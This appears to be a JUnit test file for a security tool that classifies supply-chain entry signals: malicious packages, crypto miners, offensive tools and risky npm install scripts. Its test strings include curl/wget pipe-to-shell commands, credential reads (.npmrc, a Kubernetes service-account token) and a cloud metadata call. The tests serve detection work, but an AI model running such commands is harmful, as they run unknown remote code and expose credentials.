package dev.strata.job.incident;

import static org.assertj.core.api.Assertions.assertThat;

import dev.strata.detect.sigma.SigmaFixtures;
import dev.strata.job.incident.SignalRules.Signal;
import dev.strata.schema.correlate.AttackStage;
import dev.strata.schema.correlate.Incident;
import dev.strata.schema.event.EvidenceEvent;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;

/**
 * The supply-chain entry rules ({@link SupplyChainSignals}) on documents and logs parsed by the real parsers
 * (fixtures/supply_chain, see its README), and on the shared corpus' real SBOMs and scans (read in place): CVE-laden
 * but benign images are no entry.
 */
class SupplyChainSignalsTest {
  static final SignalRules RULES = SignalRules.defaults();

  static Path fixtures(String sub) {
    for (Path p = Path.of("").toAbsolutePath(); p != null; p = p.getParent()) {
      Path f = p.resolve("src/test/resources/fixtures/supply_chain/" + sub);
      if (Files.isDirectory(f)) return f;
      f = p.resolve("processing/jobs/src/test/resources/fixtures/supply_chain/" + sub);
      if (Files.isDirectory(f)) return f;
    }
    throw new IllegalStateException(sub + " not found");
  }

  /** "<message or package> -> reason severity" of every signal among {@code events}. */
  static Map<String, String> signals(List<EvidenceEvent> events) {
    Map<String, String> out = new LinkedHashMap<>();
    for (EvidenceEvent e : events) {
      Signal s = RULES.classify(e);
      if (s == null) continue;
      assertThat(s.stage()).as(e.getMessage()).isEqualTo(AttackStage.ENTRY);
      String what = e.getPackage$() != null ? e.getSourceFormat() + " " + e.getPackage$().getName()
          + (e.getVulnerability() != null ? " " + e.getVulnerability().getUid() : "")
          + (e.getClassUid() == 2004 ? " " + e.getFinding().getRule() : "")
          : e.getClassUid() == 2004 ? e.getSourceFormat() + " " + e.getFinding().getRule()
          : e.getUnmapped().get("pkg_script.package");
      out.put(what, s.reason() + " " + s.severityId());
    }
    return out;
  }

  @Test
  void maliciousPackageAdvisoriesAreCriticalEntriesAndCvesAreNot() throws Exception {
    List<EvidenceEvent> events = SigmaFixtures.parse(fixtures("scans"));
    assertThat(events).filteredOn(e -> e.getVulnerability() != null).hasSize(7);
    Map<String, String> s = signals(events);
    assertThat(s).containsEntry("grype_scan colorsx-utils MAL-2025-41207", "malicious_package 5") // OSV MAL id
        .containsEntry("grype_scan lodahs GHSA-7q4x-w2m9-c8hp", "malicious_package 5") // its MAL alias
        .containsEntry("grype_scan node-ipc-helper GHSA-3f5v-88jm-9wq2", "malicious_package 5") // "Malicious code in"
        .containsEntry("trivy_scan reqeusts GHSA-9hx2-4v7c-jq3m", "malicious_package 5") // CWE-506
        .containsEntry("trivy_scan xmrig", "miner_component 4") // Trivy's package list
        .containsEntry("trivy_scan aws-access-key-id", "image_secret 3");
    // CVEs (log4shell included, whose description says "malicious code"), HIGH and MEDIUM secrets, a failed check:
    // context
    assertThat(s).hasSize(6);
  }

  @Test
  void minerAndOffensiveComponentsOfSbomsAreEntries() throws Exception {
    List<EvidenceEvent> events = SigmaFixtures.parse(fixtures("sboms"));
    Map<String, String> s = signals(events);
    assertThat(s).containsOnly(
        Map.entry("spdx_sbom xmrig", "miner_component 4"),
        Map.entry("syft_sbom xmrig", "miner_component 4"),
        Map.entry("cyclonedx_sbom linpeas", "offensive_tool_component 3"),
        Map.entry("cyclonedx_sbom flatmap-stream GHSA-9x64-5r7x-2q53", "malicious_package 5")); // cwes: [506]
    // SPDX 3.0 JSON-LD (relay.spdx.json): its xmrig package, bound to the image its container root element names
    assertThat(events).filteredOn(e -> e.getPackage$() != null && "xmrig".equals(e.getPackage$().getName())
        && ("sha256:" + "d7".repeat(32)).equals(e.getContainer().getImageDigest())).singleElement()
        .satisfies(e -> assertThat(RULES.classify(e).reason()).isEqualTo("miner_component"));
  }

  @Test
  void installScriptsAreEntriesOnlyWhenTheirCommandFetchesAndRunsCodeReadsCredentialsOrCallsAnAddress()
      throws Exception {
    List<EvidenceEvent> events = SigmaFixtures.parse(fixtures("logs"));
    List<String> read = new ArrayList<>();
    for (EvidenceEvent e : events) {
      Map<String, String> u = e.getUnmapped();
      if (u.containsKey("pkg_script.manager")) {
        read.add(u.get("pkg_script.manager") + " " + u.get("pkg_script.package") + " " + u.get("pkg_script.script")
            + (u.containsKey("pkg_script.command") ? ": " + u.get("pkg_script.command") : ""));
      }
    }
    assertThat(read).containsExactly(
        "npm esbuild postinstall",
        "npm esbuild postinstall: node install.js",
        "npm colorsx-utils postinstall",
        "npm colorsx-utils postinstall: curl -fsSL https://cdn.example.net/setup.sh | bash -s -- --quiet",
        "npm @acme/telemetry preinstall",
        "npm @acme/telemetry preinstall: node -e \"require('fs').readFileSync(process.env.HOME+'/.npmrc')\"",
        "npm fast-fetchr install",
        "npm fast-fetchr install: wget -q -O /tmp/x http://203.0.113.77/x && chmod +x /tmp/x",
        "pnpm sharp install: node install/check",
        "pip pyyaml-extras setup.py install",
        "gem nokogiri extconf");
    assertThat(signals(events)).containsExactly(
        Map.entry("colorsx-utils", "install_script_remote_code 4"),
        Map.entry("@acme/telemetry", "install_script_credentials 4"),
        Map.entry("fast-fetchr", "install_script_public_address 3"));
  }

  /** Docker json-file logs are read the same way (one reader session per chunk). */
  @Test
  void installScriptsInADockerJsonFileLog() throws Exception {
    List<EvidenceEvent> events = SigmaFixtures.parse(fixtures("docker"));
    assertThat(signals(events)).containsExactly(Map.entry("left-padz", "install_script_credentials 4"));
  }

  /**
   * An image finding names the image only: it joins the incident of the container that ran the image (the container
   * expands to its image), within the window.
   */
  @Test
  void anImageFindingJoinsTheIncidentOfTheContainerThatRanTheImage() throws Exception {
    List<EvidenceEvent> events = new ArrayList<>(SigmaFixtures.parse(fixtures("scans")));
    List<EvidenceEvent> log = SigmaFixtures.parse(fixtures("logs"));
    String digest = "sha256:" + "a1".repeat(32);
    for (EvidenceEvent e : log) {
      // the correlation job's answer: the job's container (by its id) runs the image
      e.getContainer().setUid("9f3c" + "17".repeat(30));
      e.getContainer().setImageDigest(digest);
      e.getKubernetes().setCluster("ci");
    }
    for (EvidenceEvent e : events) {
      if (e.getKubernetes() == null) e.setKubernetes(new dev.strata.schema.event.Kubernetes());
      e.getKubernetes().setCluster("ci"); // the collector's context: one cluster, one tenant
    }
    events.addAll(log);
    List<Incident> incidents = IncidentEngine.incidentsOf(events, IncidentSettings.defaults().withWindow(java.time.Duration.ofDays(3)));
    assertThat(incidents).hasSize(1);
    Incident inc = incidents.get(0);
    // the scans (made the day before the job ran) are its first signals: the incident is titled by their image
    assertThat(inc.getTitle()).isEqualTo("Image " + digest + ": entry (9 signals)");
    assertThat(inc.getAttackPath()).hasSize(1);
    assertThat(inc.getAttackPath().get(0).getStage()).isEqualTo(AttackStage.ENTRY);
    // the scans' 6 findings and the log's 3 scripts
    assertThat(inc.getSignals()).isEqualTo(9);
    assertThat(inc.getEntities()).anySatisfy(x -> assertThat(x.getKey()).isEqualTo("ci/runner-proj-9-job-1"));
    assertThat(inc.getEntities()).anySatisfy(x -> {
      assertThat(x.getType()).isEqualTo(Entity.IMAGE);
      assertThat(x.getKey()).isEqualTo(digest);
    });
  }

  /**
   * A Docker container's state names its image by id only (the correlation job's image answer is then the id); the
   * syft SBOM names the image's digest and id: its finding joins the container's alert through the id.
   */
  @Test
  void anImageFindingJoinsAContainerThatNamesItsImageById() throws Exception {
    List<EvidenceEvent> events = new ArrayList<>();
    for (EvidenceEvent e : SigmaFixtures.parse(fixtures("sboms"))) {
      if ("syft_sbom".equals(e.getSourceFormat())) {
        e.setCloud(dev.strata.schema.event.Cloud.newBuilder().setProvider("aws").setAccountUid("111122223333").build());
        events.add(e);
      }
    }
    assertThat(events).isNotEmpty().allSatisfy(e -> assertThat(e.getContainer().getImageUid()).isEqualTo("sha256:" + "f6".repeat(32)));
    String ctr = IncidentGrouperTest.c(7);
    // syft JSON has no time of its own: the SBOM's events have the time it was collected (observed); the alert near it
    EvidenceEvent alert = IncidentGrouperTest.falco("alert-1", events.get(0).getTime().plusSeconds(600), "host-a", ctr, null);
    alert.setKubernetes(null);
    dev.strata.schema.event.Enrichment en = new dev.strata.schema.event.Enrichment();
    en.setContainerUid(ctr);
    en.setImageDigest("sha256:" + "f6".repeat(32)); // Docker: the container's image id
    en.setBindingIds(List.of());
    en.setUnresolved(List.of());
    alert.setEnrichment(en);
    events.add(alert);
    List<Incident> incidents = IncidentEngine.incidentsOf(events, IncidentSettings.defaults());
    assertThat(incidents).singleElement().satisfies(i -> {
      assertThat(i.getSignals()).isEqualTo(2);
      assertThat(i.getAttackPath()).extracting(st -> st.getStage()).contains(AttackStage.ENTRY, AttackStage.EXECUTION);
    });
  }

  /** The shared corpus' syft SBOMs and grype reports (read in place): CVEs and ordinary packages, no entry. */
  @Test
  void theCorpusRealSbomsAndScansAreNoEntry() throws Exception {
    Path corpus = Path.of("/work/shared/corpus/sbom");
    Assumptions.assumeTrue(Files.isDirectory(corpus), "the shared corpus is not on this machine");
    List<EvidenceEvent> events = SigmaFixtures.parse(corpus);
    assertThat(events).filteredOn(e -> e.getVulnerability() != null).isNotEmpty();
    assertThat(events).filteredOn(e -> e.getPackage$() != null).hasSizeGreaterThan(10);
    assertThat(signals(events)).isEmpty();
    assertThat(IncidentEngine.incidentsOf(events, IncidentSettings.defaults())).isEmpty();
  }

  /**
   * The streaming engine (incremental index, parts) emits what the full regrouping emits when containers run images
   * by digest and image findings (an SBOM's miner component, image only) arrive in any order, before or after the
   * containers' bindings to their images: the image as an expanded entity of containers and as the pivot of a finding.
   */
  @Test
  void theIncrementalEngineAgreesWithTheRegroupingOnImageFindings() throws Exception {
    int[] joined = new int[1];
    String[] digests = {"sha256:" + "1e".repeat(32), "sha256:" + "2f".repeat(32), "sha256:" + "3a".repeat(32)};
    IncrementalGroupingTest.Coverage c = IncrementalGroupingTest.compareEveryFlush(12,
        (seed, rnd) -> IncidentSettings.defaults().withWindow(java.time.Duration.ofMinutes(40 + rnd.nextInt(120))),
        rnd -> {
          List<EvidenceEvent> events = IncrementalGroupingTest.randomEvidence(rnd, 150 + rnd.nextInt(150));
          for (EvidenceEvent e : events) {
            if (e.getContainer() != null && e.getContainer().getUid() != null) {
              // a container runs one image: its number decides which
              int n = Math.floorMod(e.getContainer().getUid().hashCode(), digests.length);
              e.setContainer(dev.strata.schema.event.Container.newBuilder(e.getContainer()).setImageDigest(digests[n])
                  .build());
            }
          }
          for (int i = 0; i < 6; i++) {
            EvidenceEvent f = IncidentGrouperTest.base("sbom" + i,
                IncidentGrouperTest.T0.plusSeconds(rnd.nextInt(12 * 3600)), "cyclonedx_sbom");
            f.setClassUid(5001);
            f.setPackage$(dev.strata.schema.event.Package.newBuilder().setName(rnd.nextBoolean() ? "xmrig" : "busybox")
                .setCpes(List.of()).setLicenses(List.of()).build());
            f.setContainer(dev.strata.schema.event.Container.newBuilder()
                .setImageDigest(digests[rnd.nextInt(digests.length)]).build());
            events.add(f);
          }
          return events;
        }, inc -> {
          boolean finding = inc.getAttackPath().stream().anyMatch(st -> st.getEventIds().stream().anyMatch(x -> x.startsWith("sbom")));
          if (finding && inc.getEntities().stream().anyMatch(x -> x.getType().equals(Entity.CONTAINER))) joined[0]++;
        });
    assertThat(c.flushes()).isGreaterThan(100);
    assertThat(c.emitted()).isGreaterThan(100);
    assertThat(joined[0]).as("records of an image finding joined with containers").isGreaterThan(5);
  }

  @Test
  void installScriptCommands() {
    SupplyChainSignals r = SupplyChainSignals.defaults();
    assertThat(r.installScript("curl -s http://198.51.100.143/k.sh | sh -s -- --token x").reason())
        .isEqualTo("install_script_remote_code");
    assertThat(r.installScript("bash -c \"$(wget -qO- https://x.example/i)\"").reason())
        .isEqualTo("install_script_remote_code");
    assertThat(r.installScript("cat /var/run/secrets/kubernetes.io/serviceaccount/token").reason())
        .isEqualTo("install_script_credentials");
    assertThat(r.installScript("curl http://169.254.169.254/latest/meta-data/").reason())
        .isEqualTo("install_script_credentials");
    assertThat(r.installScript("node ./scripts/postinstall.js")).isNull();
    assertThat(r.installScript("node-gyp rebuild")).isNull();
    assertThat(r.installScript("husky install")).isNull();
    assertThat(r.installScript("curl -L https://github.com/x/y/releases/download/v1/y.tgz | tar xz")).isNull();
    assertThat(r.installScript("node download.js http://10.0.0.5/mirror")).isNull(); // a private mirror
  }
}
